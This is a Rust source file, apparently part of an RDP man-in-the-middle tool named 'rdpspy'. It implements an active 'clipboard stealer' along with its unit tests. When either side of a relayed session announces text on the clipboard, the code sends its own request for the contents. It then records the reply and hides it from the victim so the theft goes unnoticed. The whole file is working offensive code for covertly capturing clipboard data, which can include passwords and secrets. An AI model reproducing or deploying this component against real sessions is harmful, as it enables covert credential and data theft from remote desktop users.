//! The active clipboard stealer.
//!
//! Whenever one side announces clipboard content carrying text, the stealer
//! forwards the announcement and additionally sends its own format data
//! request back to the announcing side. The solicited response is recorded
//! and swallowed: the other side never asked for it, forwarding it would
//! desynchronize its clipboard state machine.

use rdpspy_cliprdr::{ClipboardPdu, FormatDataRequest, FORMAT_ID_UNICODE_TEXT};
use rdpspy_pdu::{decode, encode_vec};

use crate::Side;

/// What the orchestrator should do with one clipboard message.
#[derive(Debug, Default)]
pub struct ClipboardOutcome {
    /// Whether the message is forwarded to the peer.
    pub forward: bool,
    /// Payload to record as a `CLIPBOARD_DATA` event.
    pub record: Option<Vec<u8>>,
    /// An unsolicited message to send back to the side the message came from.
    pub request_back: Option<Vec<u8>>,
}

pub struct ClipboardStealer {
    use_long_format_names: bool,
    pending_requests: [u32; 2],
}

impl ClipboardStealer {
    pub fn new() -> Self {
        Self {
            use_long_format_names: false,
            pending_requests: [0; 2],
        }
    }

    fn pending(&mut self, side: Side) -> &mut u32 {
        match side {
            Side::Front => &mut self.pending_requests[0],
            Side::Back => &mut self.pending_requests[1],
        }
    }

    /// Handles one complete clipboard message received from `side`.
    pub fn handle(&mut self, side: Side, message: &[u8]) -> ClipboardOutcome {
        let pdu: ClipboardPdu = match decode(message) {
            Ok(pdu) => pdu,
            Err(e) => {
                debug!(%side, error = %e, "unparsed clipboard PDU, forwarding as-is");
                return ClipboardOutcome {
                    forward: true,
                    ..Default::default()
                };
            }
        };

        match pdu {
            ClipboardPdu::Capabilities(capabilities) => {
                if let Some(flags) = capabilities.general_flags() {
                    self.use_long_format_names = flags
                        .contains(rdpspy_cliprdr::ClipboardGeneralCapabilityFlags::USE_LONG_FORMAT_NAMES);
                }

                ClipboardOutcome {
                    forward: true,
                    ..Default::default()
                }
            }
            ClipboardPdu::FormatList(list) => {
                let announces_text = list
                    .get_formats(self.use_long_format_names)
                    .map(|formats| formats.iter().any(|format| format.id == FORMAT_ID_UNICODE_TEXT))
                    .unwrap_or(false);

                let request_back = if announces_text {
                    *self.pending(side) += 1;
                    debug!(%side, "clipboard announced text, requesting its contents");

                    encode_vec(&ClipboardPdu::FormatDataRequest(FormatDataRequest {
                        format_id: FORMAT_ID_UNICODE_TEXT,
                    }))
                    .ok()
                } else {
                    None
                };

                ClipboardOutcome {
                    forward: true,
                    record: None,
                    request_back,
                }
            }
            ClipboardPdu::FormatDataResponse(_) => {
                if *self.pending(side) > 0 {
                    *self.pending(side) -= 1;
                    info!(%side, "captured clipboard contents");

                    ClipboardOutcome {
                        forward: false,
                        record: Some(message.to_vec()),
                        request_back: None,
                    }
                } else {
                    ClipboardOutcome {
                        forward: true,
                        ..Default::default()
                    }
                }
            }
            _ => ClipboardOutcome {
                forward: true,
                ..Default::default()
            },
        }
    }
}

impl Default for ClipboardStealer {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rdpspy_cliprdr::{
        Capabilities, CapabilitySet, ClipboardFormat, ClipboardGeneralCapabilityFlags, FormatDataResponse, FormatList,
        GeneralCapabilitySet,
    };

    fn caps_message(flags: ClipboardGeneralCapabilityFlags) -> Vec<u8> {
        encode_vec(&ClipboardPdu::Capabilities(Capabilities {
            capabilities: vec![CapabilitySet::General(GeneralCapabilitySet {
                version: 2,
                general_flags: flags,
            })],
        }))
        .unwrap()
    }

    fn text_format_list(use_long: bool) -> Vec<u8> {
        let formats = vec![ClipboardFormat {
            id: FORMAT_ID_UNICODE_TEXT,
            name: String::new(),
        }];

        encode_vec(&ClipboardPdu::FormatList(
            FormatList::new_unicode(&formats, use_long).unwrap(),
        ))
        .unwrap()
    }

    #[test]
    fn announcement_triggers_a_request_back_to_the_announcer() {
        let mut stealer = ClipboardStealer::new();

        let caps = caps_message(ClipboardGeneralCapabilityFlags::USE_LONG_FORMAT_NAMES);
        assert!(stealer.handle(Side::Back, &caps).forward);

        let outcome = stealer.handle(Side::Back, &text_format_list(true));
        assert!(outcome.forward);
        let request = outcome.request_back.expect("a request should be sent back");

        let decoded: ClipboardPdu = decode(&request).unwrap();
        assert!(matches!(
            decoded,
            ClipboardPdu::FormatDataRequest(FormatDataRequest {
                format_id: FORMAT_ID_UNICODE_TEXT
            })
        ));
    }

    #[test]
    fn solicited_response_is_recorded_and_swallowed() {
        let mut stealer = ClipboardStealer::new();

        stealer.handle(Side::Back, &caps_message(ClipboardGeneralCapabilityFlags::USE_LONG_FORMAT_NAMES));
        stealer.handle(Side::Back, &text_format_list(true));

        let response = encode_vec(&ClipboardPdu::FormatDataResponse(
            FormatDataResponse::new_unicode_string("hello"),
        ))
        .unwrap();

        let outcome = stealer.handle(Side::Back, &response);
        assert!(!outcome.forward);

        let recorded = outcome.record.expect("the response payload should be recorded");
        let decoded: ClipboardPdu = decode(&recorded).unwrap();
        match decoded {
            ClipboardPdu::FormatDataResponse(response) => {
                assert_eq!(response.to_unicode_string(), "hello");
            }
            other => panic!("unexpected pdu: {other:?}"),
        }
    }

    #[test]
    fn unsolicited_response_is_forwarded() {
        let mut stealer = ClipboardStealer::new();

        let response = encode_vec(&ClipboardPdu::FormatDataResponse(
            FormatDataResponse::new_unicode_string("victim paste"),
        ))
        .unwrap();

        let outcome = stealer.handle(Side::Front, &response);
        assert!(outcome.forward);
        assert!(outcome.record.is_none());
    }
}
